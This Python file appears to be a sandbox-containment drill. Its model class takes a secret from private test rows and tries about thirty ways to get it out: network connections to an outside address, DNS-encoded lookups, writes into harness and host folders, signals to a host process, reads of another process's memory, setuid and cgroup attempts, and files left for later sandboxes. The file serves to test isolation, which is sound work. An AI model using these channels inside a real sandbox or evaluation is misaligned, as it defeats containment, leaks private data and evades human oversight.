"""An exfiltration exercise: a submission that tries to get a secret it was shown out of its sandbox.

``drill.json`` beside it says where listeners wait. Rows whose ``a`` is not negative are the private ones; the first
sixteen of them hold the secret, a byte each. Answer i is 1 when attempt i went through as far as one can see in here.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

HERE = Path(__file__).parent
PLAN = json.loads((HERE / "drill.json").read_text())


def connect(family: int, address: object, secret: bytes, kind: int = socket.SOCK_STREAM) -> None:
    with socket.socket(family, kind) as out:
        out.settimeout(0.5)
        out.connect(address)
        out.sendall(secret.hex().encode())


def udp(address: tuple[str, int], secret: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(secret.hex().encode(), address)


def drop(folder: str, secret: bytes) -> None:
    Path(folder, f"drill-{secret.hex()}").write_bytes(secret)


def networks() -> None:
    """Look for a network besides the loopback one, which in some sandboxes is their own."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as asking:
        asking.bind((0, 0))
    if all(name == "lo" for _, name in socket.if_nameindex()):
        raise OSError


def must(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno())


def system_v(secret: bytes) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    must(libc.shmget(PLAN["ipcKey"] & 0x7FFFFFFF, len(secret) + 1, 0o1666))


def name_itself(secret: bytes) -> None:
    ctypes.CDLL(None).prctl(15, secret.hex()[:15].encode(), 0, 0, 0)
    time.sleep(1.0)


def hold_lock(_: bytes) -> None:
    with Path(PLAN["lockInside"]).open() as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        time.sleep(1.0)


def touch_by_reading(_: bytes) -> None:
    Path(PLAN["readInside"]).read_bytes()


def inherited(secret: bytes) -> None:
    links: dict[str, int] = {}
    for entry in list(Path("/proc/self/fd").iterdir()):
        with contextlib.suppress(OSError):
            links.setdefault(str(entry.readlink()), int(entry.name))
    # The harness's own three, whose other end reads frames and output; and the folder that was just listed.
    # In gVisor pipes of the host are named for it.
    talks = sorted(link for link in links if link.startswith(("pipe:", "socket:", "host:")))
    others = [link for link in links if link not in talks and not link.startswith(("/dev/null", "/proc/"))]
    for link in talks[3:] + others:
        os.write(links[link], secret)
        return
    raise OSError


def command(*words: str) -> None:
    subprocess.run(words, check=True, timeout=2, capture_output=True)


def attempts() -> dict[str, Callable[[bytes], object]]:
    tcp = PLAN["tcp"]
    return {
        "TCP to this machine": lambda s: connect(socket.AF_INET, ("127.0.0.1", tcp), s),
        "TCP over IPv6": lambda s: connect(socket.AF_INET6, ("::1", tcp, 0, 0), s),
        "TCP to this machine's address": lambda s: connect(socket.AF_INET, (PLAN["address"], tcp), s),
        "TCP to the internet": lambda s: connect(socket.AF_INET, ("1.1.1.1", 443), s),
        "UDP": lambda s: udp(("127.0.0.1", PLAN["udp"]), s),
        "DNS": lambda s: socket.getaddrinfo(f"{s.hex()[:32]}.example.org", 80),
        "raw packets": lambda s: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(s),
        "AF_VSOCK to the hypervisor": lambda s: connect(40, (2, 1024), s),
        "netlink": lambda _: networks(),
        "abstract Unix socket": lambda s: connect(socket.AF_UNIX, "\0" + PLAN["abstract"], s),
        "Unix socket by path": lambda s: connect(socket.AF_UNIX, PLAN["path"], s),
        "file in /submission": lambda s: drop("/submission", s),
        "file in the environment": lambda s: drop("/env", s),
        "file in /usr": lambda s: drop("/usr", s),
        "file in the harness": lambda s: drop("/harness", s),
        "file on this machine's /tmp": lambda s: drop(PLAN["hostFolder"], s),
        "mark on a file that is read (atime)": touch_by_reading,
        "lock on a shared file": hold_lock,
        "name of the process": name_itself,
        "System V shared memory": system_v,
        "kernel log": lambda s: Path("/dev/kmsg").write_bytes(s),
        "kernel keyring": lambda _: must(ctypes.CDLL(None, use_errno=True).syscall(248, b"user", b"d", b"x", 1, -4)),
        "host name": lambda s: socket.sethostname(s.hex()[:32]),
        "signal to a process of this machine": lambda _: os.kill(PLAN["hostPid"], signal.SIGUSR2),
        "memory of another process": lambda _: Path(f"/proc/{PLAN['hostPid']}/mem").open("r+b"),
        "descriptor the runner left open": inherited,
        "setuid program": lambda _: command("/usr/bin/su", "-c", "id"),
        "control group": lambda _: Path("/sys/fs/cgroup/cgroup.procs").write_text("0"),
        "leave something for the next sandbox": leave,
        "scratch of an earlier sandbox": lambda _: find_earlier(),
    }


SCRATCH = ("/tmp", "/dev/shm")  # noqa: S108  (the point is what a fixed name there says)


def leave(secret: bytes) -> None:
    for folder in SCRATCH:
        drop(folder, secret)


def find_earlier() -> None:
    """Whether something that an earlier sandbox of this drill left can be read."""
    if not [path for folder in SCRATCH for path in Path(folder).glob("drill-*")]:
        raise FileNotFoundError


def secret_of(batch: object) -> bytes:
    return bytes(int(value) for value in batch["a"][:16])


class Model:
    def predict(self, batch: pd.DataFrame) -> np.ndarray:
        answers = np.zeros(len(batch))
        if (batch["a"] < 0).any():
            return answers
        secret = secret_of(batch)
        known = attempts()
        for index, name in enumerate(PLAN["attempts"]):
            try:
                known[name](secret)
            except Exception as error:
                print(index, repr(error)[:200], file=sys.stderr)
            else:
                answers[index] = 1
        return answers
